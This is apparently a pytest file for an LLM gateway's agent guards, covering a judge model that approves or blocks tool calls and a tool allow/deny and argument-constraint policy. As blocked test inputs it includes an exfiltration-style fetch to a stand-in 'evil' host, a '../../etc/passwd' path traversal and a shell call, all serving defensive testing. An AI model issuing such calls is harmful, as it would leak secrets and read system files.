"""Issue 20, agent guards through the gateway with a scripted upstream and the real SDKs:

- `alignment_check` with a scripted judge (the same scripted server, model "judge") that answers
  aligned / misaligned / garbage / times out: the tool call is released, blocked, or handled per
  `on_error`, stream and not, both dialects, and the openai SDK's tool-call loop end to end.
- `tools`: allow / deny / argument-constraint violations end the answer with `content_filter` and an
  annotation whose category names the rule.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from harness import oa_chunk, sse, stream_frames

from gateway.guards.tools import ToolsGuard, path_is_under
from gateway.policy.chain import PolicyStore
from gateway.types import ToolCall

TOOL = {"type": "function", "function": {"name": "send_email", "description": "send an email",
                                         "parameters": {"type": "object", "properties": {"to": {"type": "string"}}}}}


class Scripted:
    """Agent answers (a tool call first, text once a tool result came back) and judge answers."""

    def __init__(self, judge: str = "aligned", call: tuple[str, dict] = ("send_email", {"to": "bob@corp.example"})):
        self.judge = judge
        self.call = call
        self.judge_requests: list[dict] = []

    async def __call__(self, request: web.Request, up: Any) -> web.StreamResponse:
        body = up.last.json()
        if body.get("model") == "judge":
            self.judge_requests.append(body)
            if self.judge == "timeout":
                await asyncio.sleep(3)
            text = {"aligned": '{"aligned": true, "reason": "sending the email the user asked for"}',
                    "misaligned": 'Verdict: {"aligned": false, "reason": "the user never asked to email anyone"}',
                    "garbage": "I think it is probably fine?"}.get(self.judge, "")
            return web.json_response(_completion({"role": "assistant", "content": text}))
        if any(m.get("role") == "tool" for m in body.get("messages", [])):
            msg: dict[str, Any] = {"role": "assistant", "content": "Done: the email is sent."}
            finish = "stop"
        else:
            name, args = self.call
            msg = {"role": "assistant", "content": "Let me do that.", "tool_calls": [
                {"id": "call_1", "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}]}
            finish = "tool_calls"
        if not body.get("stream"):
            return web.json_response(_completion(msg, finish))
        frames = [sse(oa_chunk({"role": "assistant", "content": ""})), sse(oa_chunk({"content": msg["content"]}))]
        for tc in msg.get("tool_calls", []):
            args = tc["function"]["arguments"]
            head = {"name": tc["function"]["name"], "arguments": ""}
            frames.append(sse(oa_chunk({"tool_calls": [{"index": 0, "id": tc["id"], "type": "function",
                                                        "function": head}]})))
            for piece in (args[: len(args) // 2], args[len(args) // 2:]):
                frames.append(sse(oa_chunk({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})))
        frames += [sse(oa_chunk({}, finish)), sse("[DONE]")]
        return await stream_frames(request, frames, delay=0.005)


def _completion(msg: dict, finish: str = "stop") -> dict:
    return {"id": "x", "object": "chat.completion", "created": 1, "model": "m",
            "choices": [{"index": 0, "message": msg, "finish_reason": finish}],
            "usage": {"prompt_tokens": 3, "completion_tokens": 3, "total_tokens": 6}}


def write_policy(tmp_path: Path, step: str) -> str:
    p = tmp_path / "agent.yaml"
    p.write_text(f"name: agent\nstream:\n  check_every_tokens: 4\n  steps:\n{step}")
    return str(p)


def alignment_step(action: str = "block", on_error: str = "block") -> str:
    return (f"    - guard: alignment_check\n      upstream: main\n      model: judge\n"
            f"      action: {action}\n      on_error: {on_error}\n      timeout_ms: 500\n")


@pytest.fixture
def agent(make_stack):
    def make(policy_path: str, scripted: Scripted):
        return make_stack({"upstreams": {"main": {"base_url": "SCRIPTED"}}, "policy": policy_path},
                          handler=scripted, policies=PolicyStore(required=[policy_path]))

    return make


def ask_openai(st, stream: bool) -> tuple[str, list[tuple[str, str]], str, list[dict]]:
    """(text, [(tool name, arguments)], finish_reason, annotations) through the openai SDK."""
    msgs = [{"role": "user", "content": "Email Bob that the meeting moved."}]
    r = st.openai().chat.completions.create(model="m", messages=msgs, tools=[TOOL], stream=stream)
    if not stream:
        ch = r.choices[0]
        calls = [(tc.function.name, tc.function.arguments) for tc in ch.message.tool_calls or []]
        notes = [r.model_extra["guardgate"]] if r.model_extra and "guardgate" in r.model_extra else []
        return ch.message.content or "", calls, ch.finish_reason, notes
    chunks = list(r)
    text, names, args, finish, notes = "", {}, {}, None, []
    for c in chunks:
        if c.model_extra and c.model_extra.get("guardgate"):
            notes.append(c.model_extra["guardgate"])
        if not c.choices:
            continue
        d = c.choices[0].delta
        text += d.content or ""
        for tc in d.tool_calls or []:
            if tc.function.name:
                names[tc.index] = tc.function.name
            args[tc.index] = args.get(tc.index, "") + (tc.function.arguments or "")
        finish = c.choices[0].finish_reason or finish
    return text, [(names.get(i, ""), a) for i, a in sorted(args.items())], finish, notes


def ask_llama(st, stream: bool) -> tuple[list[str], str]:
    """([tool names released], stop reason) through the Llama API SDK."""
    msgs = [{"role": "user", "content": "Email Bob that the meeting moved."}]
    tools = [{"type": "function", "function": TOOL["function"]}]
    if not stream:
        r = st.llama().chat.completions.create(model="m", messages=msgs, tools=tools)
        m = r.completion_message
        return [tc.function.name for tc in m.tool_calls or []], m.stop_reason
    chunks = list(st.llama().chat.completions.create(model="m", messages=msgs, tools=tools, stream=True))
    names = [c.event.delta.function.name for c in chunks
             if c.event.delta.type == "tool_call" and c.event.delta.function.name]
    stops = [c.event.stop_reason for c in chunks if c.event.event_type == "complete"]
    return names, stops[-1]


# ---------------------------------------------------------------------------- alignment_check

CASES = [  # judge answer, action, on_error -> released?
    ("aligned", "block", "block", True),
    ("misaligned", "block", "allow", False),
    ("misaligned", "warn", "block", True),
    ("garbage", "block", "block", False),
    ("garbage", "block", "allow", True),
    ("timeout", "block", "block", False),
    ("timeout", "block", "allow", True),
]


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("judge,action,on_error,released", CASES)
def test_alignment_check_openai(agent, tmp_path, judge, action, on_error, released, stream) -> None:
    sc = Scripted(judge)
    st = agent(write_policy(tmp_path, alignment_step(action, on_error)), sc)
    text, calls, finish, notes = ask_openai(st, stream)
    assert len(sc.judge_requests) == 1
    prompt = sc.judge_requests[0]["messages"][1]["content"]
    assert "Email Bob that the meeting moved." in prompt and 'send_email({"to": "bob@corp.example"})' in prompt
    if released:
        assert calls == [("send_email", '{"to": "bob@corp.example"}')] and finish == "tool_calls"
        assert text == "Let me do that."
    else:
        assert calls == [] and finish == "content_filter"
    step = notes[-1]["steps"][0]
    if judge == "misaligned":
        assert step["categories"] == ["misaligned"] and step.get("action") == action
    if judge in ("garbage", "timeout"):
        assert step["verdict"] == "error"


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("judge,released", [("aligned", True), ("misaligned", False), ("garbage", False)])
def test_alignment_check_llama_dialect(agent, tmp_path, judge, released, stream) -> None:
    st = agent(write_policy(tmp_path, alignment_step()), Scripted(judge))
    names, stop = ask_llama(st, stream)
    if released:
        assert names == ["send_email"] and stop == "tool_calls"
    else:
        assert names == [] and stop != "tool_calls"


def test_text_without_tool_calls_never_asks_the_judge(agent, tmp_path) -> None:
    sc = Scripted("timeout")
    st = agent(write_policy(tmp_path, alignment_step()), sc)
    r = st.openai().chat.completions.create(model="m", messages=[
        {"role": "user", "content": "hi"}, {"role": "assistant", "content": None, "tool_calls": [
            {"id": "c0", "type": "function", "function": {"name": "send_email", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c0", "content": "ok"}])
    assert r.choices[0].message.content == "Done: the email is sent." and sc.judge_requests == []


@pytest.mark.parametrize("judge", ["aligned", "misaligned"])
def test_openai_sdk_tool_call_loop(agent, tmp_path, judge) -> None:
    """The agent loop an openai SDK user writes: call, run the tool, send the result, get the answer."""
    import openai

    sc = Scripted(judge)
    st = agent(write_policy(tmp_path, alignment_step()), sc)
    client: openai.OpenAI = st.openai()
    messages: list[Any] = [{"role": "user", "content": "Email Bob that the meeting moved."}]
    ran: list[str] = []
    for _ in range(4):
        r = client.chat.completions.create(model="m", messages=messages, tools=[TOOL])
        choice = r.choices[0]
        if choice.finish_reason != "tool_calls":
            break
        messages.append(choice.message)
        for tc in choice.message.tool_calls:
            ran.append(tc.function.name)
            messages.append({"role": "tool", "tool_call_id": tc.id, "content": "sent"})
    if judge == "aligned":
        assert ran == ["send_email"] and choice.message.content == "Done: the email is sent."
    else:
        assert ran == [] and choice.finish_reason == "content_filter"


# ---------------------------------------------------------------------------- tools

TOOLS_STEP = """    - guard: tools
      allow: [fetch, read_file, send_email]
      deny: [send_email]
      arguments:
        fetch:
          type: object
          required: [url]
          properties:
            url: {type: string, host_in: [docs.example.com]}
        read_file:
          type: object
          properties:
            path: {type: string, path_under: /srv/data}
"""


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("call,rule", [
    (("fetch", {"url": "https://docs.example.com/a"}), None),
    (("read_file", {"path": "/srv/data/report.txt"}), None),
    (("shell", {"cmd": "ls"}), "allow:shell"),
    (("send_email", {"to": "x@y.z"}), "deny:send_email"),
    (("fetch", {"url": "https://evil.example.net/?q=secrets"}), "arguments:fetch:url:host_in"),
    (("read_file", {"path": "/srv/data/../../etc/passwd"}), "arguments:read_file:path:path_under"),
    (("fetch", {}), "arguments:fetch:$:required"),
])
def test_tools_policy(agent, tmp_path, call, rule, stream) -> None:
    st = agent(write_policy(tmp_path, TOOLS_STEP), Scripted(call=call))
    _, calls, finish, notes = ask_openai(st, stream)
    if rule is None:
        assert calls == [(call[0], json.dumps(call[1]))] and finish == "tool_calls"
    else:
        assert calls == [] and finish == "content_filter"
        step = notes[-1]["steps"][0]
        assert step["guard"] == "tools" and step["categories"] == [rule] and notes[-1]["action"] == "block"


def test_tools_helpers() -> None:
    assert path_is_under("/srv/data/x", "/srv/data") and path_is_under("x/y", "/srv/data")
    assert not path_is_under("/srv/database", "/srv/data") and not path_is_under("../x", "/srv/data")
    g = ToolsGuard(arguments={"*": {"type": "object", "properties": {"url": {"host_in": ["example.com"]}}}})
    assert g.violation(ToolCall("1", "any", '{"url": "https://api.example.com/x"}')) is None
    assert g.violation(ToolCall("1", "any", '{"url": "https://example.com.evil.io/"}')) is not None
    assert g.violation(ToolCall("1", "any", "{not json"))[0] == "arguments:any:json"
